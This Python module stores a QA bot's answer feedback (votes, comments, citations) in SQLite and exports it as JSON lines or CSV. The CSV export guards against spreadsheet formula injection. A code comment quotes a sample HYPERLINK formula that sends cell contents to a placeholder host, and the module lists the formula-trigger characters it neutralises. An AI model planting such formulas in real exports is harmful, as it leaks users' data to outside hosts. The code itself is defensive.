"""Feedback on answers (thumbs up/down, an optional comment), kept durably in an embedded SQLite file.

One row per vote: the question, the answer text, its citations (JSON), the vote (+1 / -1), the comment, the
time (UTC, ISO 8601) and the model info. Every write is one transaction, so a failure loses nothing already
stored; a file that cannot be opened or is not a feedback database raises FeedbackError with a one-line message.
"""
from __future__ import annotations

import csv
import io
import json
import sqlite3
from dataclasses import dataclass
from datetime import datetime, timezone
from pathlib import Path
from typing import Any, Iterable

from .errors import QABotError

MAX_COMMENT_CHARS = 2000
COLUMNS = ("id", "created_at", "vote", "question", "answer", "citations", "comment", "model")
_SCHEMA = """
CREATE TABLE IF NOT EXISTS feedback (
  id INTEGER PRIMARY KEY AUTOINCREMENT,
  created_at TEXT NOT NULL,
  vote INTEGER NOT NULL CHECK (vote IN (-1, 1)),
  question TEXT NOT NULL,
  answer TEXT NOT NULL,
  citations TEXT NOT NULL,
  comment TEXT NOT NULL DEFAULT '',
  model TEXT NOT NULL DEFAULT '{}'
)"""


class FeedbackError(QABotError):
    """The feedback database cannot be used (unwritable, corrupt, not ours); the message is fit for a user."""


@dataclass(frozen=True)
class Feedback:
    vote: int | str  # +1 helpful, -1 not, or any form parse_vote reads ("up", "down", ...); add() parses it
    question: str
    answer: str
    citations: tuple[dict[str, Any], ...] = ()
    comment: str = ""
    model: dict[str, Any] | None = None


def parse_vote(value: Any) -> int:
    """+1 or -1 from 'up'/'down', 'like'/'dislike', True/False, 1/-1; anything else is a FeedbackError."""
    if isinstance(value, bool):
        return 1 if value else -1
    text = str(value).strip().lower()
    if text in ("1", "+1", "up", "like", "yes", "helpful"):
        return 1
    if text in ("-1", "0", "down", "dislike", "no", "unhelpful"):
        return -1
    raise FeedbackError(f"A vote is up or down, not {value!r}.")


class FeedbackStore:
    """The feedback table in one SQLite file (created on first write, with its folder)."""

    def __init__(self, path: str | Path):
        self.path = Path(path).expanduser()

    def _connect(self, create: bool) -> sqlite3.Connection:
        if not create and not self.path.exists():
            raise FeedbackError(f"No feedback has been recorded yet ({self.path} does not exist).")
        try:
            if create:
                self.path.parent.mkdir(parents=True, exist_ok=True)
            con = sqlite3.connect(self.path, timeout=10)
            con.execute(_SCHEMA) if create else None
            con.execute("SELECT count(*) FROM feedback").fetchone()  # a corrupt or foreign file fails here
        except (sqlite3.Error, OSError) as exc:
            raise FeedbackError(f"Cannot use the feedback database {self.path}: {_why(exc)}.") from None
        return con

    def add(self, fb: Feedback, now: datetime | None = None) -> int:
        """Store one vote in its own transaction; returns its row id."""
        comment = (fb.comment or "").strip()
        if len(comment) > MAX_COMMENT_CHARS:
            raise FeedbackError(f"A comment is at most {MAX_COMMENT_CHARS:,} characters; this one has {len(comment):,}.")
        row = ((now or datetime.now(timezone.utc)).isoformat(timespec="seconds"), parse_vote(fb.vote),
               fb.question, fb.answer, json.dumps(list(fb.citations), ensure_ascii=False), comment,
               json.dumps(fb.model or {}, ensure_ascii=False, default=str))
        con = self._connect(create=True)
        try:
            with con:  # commits on success, rolls back on any error
                cur = con.execute("INSERT INTO feedback (created_at, vote, question, answer, citations, comment, model)"
                                  " VALUES (?, ?, ?, ?, ?, ?, ?)", row)
            assert cur.lastrowid is not None  # None only before any INSERT on this cursor
            return cur.lastrowid
        except sqlite3.Error as exc:
            raise FeedbackError(f"Cannot save feedback to {self.path}: {_why(exc)}.") from None
        finally:
            con.close()

    def rows(self) -> list[dict[str, Any]]:
        """Every stored vote, oldest first, citations and model decoded."""
        con = self._connect(create=False)
        try:
            cur = con.execute(f"SELECT {', '.join(COLUMNS)} FROM feedback ORDER BY id")
            out = [dict(zip(COLUMNS, r)) for r in cur.fetchall()]
        except sqlite3.Error as exc:
            raise FeedbackError(f"Cannot read the feedback database {self.path}: {_why(exc)}.") from None
        finally:
            con.close()
        for r in out:
            r["citations"], r["model"] = _loads(r["citations"], []), _loads(r["model"], {})
        return out

    def summary(self) -> dict[str, Any]:
        """Counts for reports: {"n", "up", "down", "with_comment", "helpful_share"} (share None with no votes)."""
        if not self.path.exists():
            return {"n": 0, "up": 0, "down": 0, "with_comment": 0, "helpful_share": None}
        return summarise(self.rows())


def summarise(rows: Iterable[dict[str, Any]]) -> dict[str, Any]:
    rows = list(rows)
    up = sum(1 for r in rows if r["vote"] > 0)
    return {"n": len(rows), "up": up, "down": len(rows) - up,
            "with_comment": sum(1 for r in rows if r.get("comment")),
            "helpful_share": round(up / len(rows), 4) if rows else None}


# A spreadsheet runs a cell that starts with one of these as a formula (=HYPERLINK("http://x/?"&A1, "Click")): in
# the CSV export such a text cell gets a leading "'" (OWASP, CSV injection), so it is shown as the text it is.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A text cell that a spreadsheet would take for a formula, made text: "=1+1" -> "'=1+1". Numbers (a vote of
    -1) are not text and stay as they are."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def export(rows: Iterable[dict[str, Any]], fmt: str = "jsonl") -> str:
    """rows as JSON lines, or CSV with a header (citations and model as JSON text in their cells; text cells that
    start with = + - @, a tab or a carriage return get a leading "'": csv_cell)."""
    rows = list(rows)
    if fmt == "jsonl":
        return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows)
    if fmt == "csv":
        buf = io.StringIO()
        w = csv.DictWriter(buf, fieldnames=COLUMNS)
        w.writeheader()
        for r in rows:
            row = {**r, "citations": json.dumps(r["citations"], ensure_ascii=False),
                   "model": json.dumps(r["model"], ensure_ascii=False)}
            w.writerow({k: csv_cell(v) for k, v in row.items()})
        return buf.getvalue()
    raise FeedbackError(f"The export format is csv or jsonl, not {fmt!r}.")


def _loads(text: str, default):
    try:
        return json.loads(text)
    except (TypeError, ValueError):
        return default


def _why(exc: BaseException) -> str:
    msg = str(exc).rstrip(".") or type(exc).__name__
    return "it is not a feedback database (corrupt or another kind of file)" if "not a database" in msg else msg
